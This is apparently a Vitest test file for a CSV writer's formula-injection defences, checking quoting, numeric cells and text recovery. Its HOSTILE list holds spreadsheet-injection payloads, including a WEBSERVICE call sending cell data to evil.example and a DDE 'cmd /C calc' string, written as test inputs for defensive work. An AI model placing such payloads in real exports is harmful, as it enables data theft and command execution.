/**
 * The product's one CSV writer (issue 18, item 5): RFC 4180 quoting, no cell a spreadsheet could run
 * as a formula whether it splits on `,`, `;` or tab (with quotes or without), numbers kept numeric,
 * and every text recoverable from the file.
 */
import { describe, expect, it } from 'vitest';
import { csvField, csvMoney, csvRow, neutralizeFormulas } from '../../lib/domain/csv';
import { formulaCells, naiveCells, opensFormula, parseCsv, recoverText } from '../support/csv';

/** Texts a customer, vendor or memo could carry into QuickBooks. */
const HOSTILE = [
  'Acme;=WEBSERVICE("https://evil.example/?"&A1)',
  'Acme,=HYPERLINK("https://evil.example","Open")',
  'x;=1+1',
  'x,@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1)',
  'a\t=1',
  '\t=1',
  'a\r\n-1+1',
  'a\n+1',
  'a\r@x',
  'a; =1',
  'a;"=1',
  '  =1',
  '"=1"',
  'a;\t\t=1',
  'a;\0=1',
  '＝1+1',
  'a;＠SUM(A1)',
  '-120.5;=1',
  '{"PrivateNote":"x;=1+1","Memo":"x,@SUM(A1)","Lines":[1,-2,+3]}',
];

/** Texts that must come back exactly, apostrophes of their own included. */
const TRICKY = ["'already quoted", "a;'b", "a,''b", "a;'=1", 'say "hi"', 'a\r\nb', '', ' ', ',', ';', "'", "a'b"];

describe('the CSV writer', () => {
  it.each(HOSTILE)('no cell opens a formula, however a spreadsheet splits %j', (text) => {
    const csv = csvRow(['before', text, 'after']);
    expect(formulaCells(csv)).toEqual([]);
  });

  it.each([...HOSTILE, ...TRICKY])('%j is one RFC 4180 field that gives the text back', (text) => {
    const csv = csvRow(['before', text, 'after']);
    const { rows, errors } = parseCsv(csv);
    expect(errors).toEqual([]);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toHaveLength(3);
    expect(recoverText(rows[0]![1]!)).toBe(text);
  });

  it('an apostrophe goes only where a cell could start, the rest is left as it was', () => {
    expect(neutralizeFormulas('x;=1+1')).toBe("x;'=1+1");
    expect(neutralizeFormulas('x,@SUM(A1)')).toBe("x,'@SUM(A1)");
    expect(neutralizeFormulas('=1')).toBe("'=1");
    expect(neutralizeFormulas('a\r\n-1')).toBe("a\r\n'-1");
    expect(neutralizeFormulas('a;\t=1')).toBe("a;'\t'=1");
    expect(neutralizeFormulas('a; "=1')).toBe('a;\' "=1');
    expect(neutralizeFormulas("a;'b")).toBe("a;''b");
    expect(neutralizeFormulas('Acme, "The" Company')).toBe('Acme, "The" Company');
    expect(neutralizeFormulas('1+1=2 (a-b) x@y.com')).toBe('1+1=2 (a-b) x@y.com');
    expect(neutralizeFormulas('{"TotalAmt":-120.5,"Id":"1"}')).toBe('{"TotalAmt":-120.5,"Id":"1"}');
  });

  it('quotes a field holding a quote, comma, semicolon, tab, CR or LF, doubling its quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
    expect(csvField('a\rb')).toBe('"a\rb"');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('Acme;=1')).toBe(`"Acme;'=1"`);
    expect(csvField(undefined)).toBe('');
    expect(csvRow(['a', undefined, 'b;c'])).toBe('a,,"b;c"\r\n');
  });

  it.each([
    [-120.5, '-120.5'],
    [120.55, '120.55'],
    [-0.01, '-0.01'],
    [0, '0'],
    ['-120.5', '-120.5'],
    ['-120', '-120'],
  ])('%j stays a number cell: %s', (value, cell) => {
    expect(csvField(value)).toBe(cell);
    const csv = csvRow(['x', value]);
    expect(parseCsv(csv, ';').rows[0]).toEqual([`x,${cell}`]);
    expect(naiveCells(csv, ',')).toEqual(['x', cell, '']);
    expect(opensFormula(cell)).toBe(false);
  });

  it('money is written with two decimals, a plain number cell; a finer amount is never rounded away', () => {
    expect(csvRow(['Total', csvMoney(97199.1)])).toBe('Total,97199.10\r\n');
    expect([75, -20.5, 0, -0.01, 1887.59].map(csvMoney)).toEqual(['75.00', '-20.50', '0.00', '-0.01', '1887.59']);
    expect(csvMoney(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(csvMoney(undefined)).toBeUndefined();
    expect(opensFormula(csvField(csvMoney(-120.5)))).toBe(false);
  });

  it('a row’s first field is text even when it is a number: a `;` spreadsheet reads the whole row as one cell', () => {
    expect(csvRow([-1, '5+WEBSERVICE("x")'])).toBe(`'-1,"5+WEBSERVICE(""x"")"\r\n`);
    expect(csvRow(['-120.5', -120.5])).toBe("'-120.5,-120.5\r\n");
    expect(csvRow([120.5, 'a'])).toBe('120.5,a\r\n');
    expect(csvRow([undefined, 'a'])).toBe(',a\r\n');
    expect(formulaCells(csvRow([-1, -120.5, '-1']))).toEqual([]);
  });

  it('a text that only starts like a number, or a number that is not finite, is text', () => {
    for (const t of ['-120.55+1', '-120.', '-.5', '--1', '+5', '-1e3']) expect(csvField(t)).toBe(`'${t}`);
    expect(csvField(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(csvField(Number.NaN)).toBe('NaN');
  });

  it('random texts of formula characters and separators: no formula cell, and each comes back', () => {
    const alphabet = ['=', '+', '-', '@', "'", '"', ' ', ',', ';', '\t', '\r', '\n', '\0', 'a', '1', '.', '＝'];
    let seed = 18;
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    for (let n = 0; n < 2000; n++) {
      const text = Array.from({ length: Math.floor(next() * 10) }, () => alphabet[Math.floor(next() * 17)]).join('');
      const csv = csvRow([text, -120.5, text]);
      expect(formulaCells(csv), JSON.stringify(text)).toEqual([]);
      const { rows, errors } = parseCsv(csv);
      expect(errors).toEqual([]);
      expect(rows).toEqual([[expect.any(String), '-120.5', expect.any(String)]]);
      expect(recoverText(rows[0]![0]!), JSON.stringify(text)).toBe(text);
    }
  });
});

describe('the test’s own reader', () => {
  it('sees formula cells in a CSV written the old way (first character only, `,` quoting)', () => {
    const old = '"Acme;=WEBSERVICE(""x"")",x;=1+1,"x,@SUM(A1)"\r\n';
    expect(parseCsv(old).errors).toEqual([]);
    const cells = formulaCells(old);
    expect(cells.some((c) => c.startsWith('=1+1,'))).toBe(true); // split on `;`, quotes read
    expect(cells).toContain('@SUM(A1)"'); // split on `,`, quotes ignored
    expect(cells.some((c) => c.startsWith('=WEBSERVICE('))).toBe(true);
    expect(opensFormula('\r\n"\t=1')).toBe(true);
    expect(opensFormula('\r\n')).toBe(false);
    expect(opensFormula("'=1")).toBe(false);
  });

  it('reads quoted fields, doubled quotes and CRLF rows, and names what breaks RFC 4180', () => {
    expect(parseCsv('a,"b,c","d""e",\r\n"x\r\ny",2\r\n')).toEqual({
      rows: [
        ['a', 'b,c', 'd"e', ''],
        ['x\r\ny', '2'],
      ],
      errors: [],
    });
    expect(parseCsv('a"b,"c"d\nx').errors).toEqual([
      'stray quote at 1',
      'text after a closing quote at 7',
      'bare LF at 8',
      'no CRLF after the last row',
    ]);
    expect(parseCsv('"open').errors).toEqual(['unclosed quote', 'no CRLF after the last row']);
  });
});
